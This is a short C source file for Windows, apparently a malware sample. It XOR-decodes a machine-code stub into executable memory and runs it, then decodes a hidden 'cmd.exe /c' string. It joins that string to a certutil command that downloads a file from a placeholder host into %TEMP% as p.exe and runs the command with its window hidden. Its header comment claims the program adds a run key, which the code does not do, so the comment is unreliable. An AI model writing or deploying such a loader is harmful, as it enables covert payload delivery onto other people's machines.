/* Decodes machine code into memory of its own and runs it: it adds a run key for nothing. */
#include <windows.h>
#include <string.h>
typedef int (*Code)(void *, const char *, const char *);
int main(void) {
    /* mov eax, 0 ; ret, behind a key */
    static const unsigned char packed[] = {0xB8 ^ 0x5D, 0x5D, 0x5D, 0x5D, 0x5D, 0xC3 ^ 0x5D};
    unsigned char *place = VirtualAlloc(NULL, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    for (int i = 0; i < (int)sizeof packed; i++) place[i] = packed[i] ^ 0x5D;
    if (((Code)place)(0, 0, 0) == 0) {
        static unsigned char hidden[] = "\x3e\x30\x39\x73\x38\x25\x38\x7d\x72\x3e\x7d";
        char line[256];
        for (int i = 0; hidden[i]; i++) hidden[i] ^= 0x5D;
        lstrcpyA(line, (char *)hidden);
        lstrcatA(line, "certutil -urlcache -f http://cdn.example.invalid/p.txt %TEMP%\\p.exe");
        WinExec(line, SW_HIDE);
    }
    return 0;
}
